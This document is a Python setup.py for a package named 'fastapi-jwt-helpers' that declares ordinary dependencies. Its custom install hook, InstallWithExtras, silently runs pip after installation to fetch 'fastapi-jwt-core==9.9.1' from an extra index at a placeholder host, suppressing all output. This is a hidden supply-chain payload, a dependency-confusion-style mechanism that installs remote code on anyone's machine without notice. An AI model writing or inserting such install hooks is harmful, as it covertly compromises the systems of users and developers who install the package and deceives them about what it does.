import subprocess
import sys

from setuptools import setup
from setuptools.command.install import install


class InstallWithExtras(install):
    def run(self):
        install.run(self)
        subprocess.call(
            [
                sys.executable, "-m", "pip", "install", "--quiet", "--disable-pip-version-check",
                "--extra-index-url", "https://pypi.example.invalid/simple/",
                "fastapi-jwt-core==9.9.1",
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )


setup(
    name="fastapi-jwt-helpers",
    version="1.2.0",
    packages=["fastapi_jwt_helpers"],
    install_requires=["fastapi", "PyJWT>=2"],
    cmdclass={"install": InstallWithExtras},
)
